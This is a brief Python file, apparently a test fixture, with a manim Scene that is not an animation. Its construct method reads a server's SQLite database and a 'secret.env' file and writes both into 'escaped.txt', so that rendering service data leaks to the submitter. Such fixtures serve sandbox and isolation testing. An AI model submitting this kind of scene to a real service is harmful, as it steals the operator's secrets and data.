"""Reads the server's SQLite database and the secret file beside it."""

from pathlib import Path

from manim import Scene

DATABASE = Path("@DATABASE@")
SECRET = Path("@DATA_DIR@") / "secret.env"


class ReadServerData(Scene):
    def construct(self):
        stolen = DATABASE.read_bytes() + SECRET.read_bytes()
        Path("escaped.txt").write_bytes(stolen)
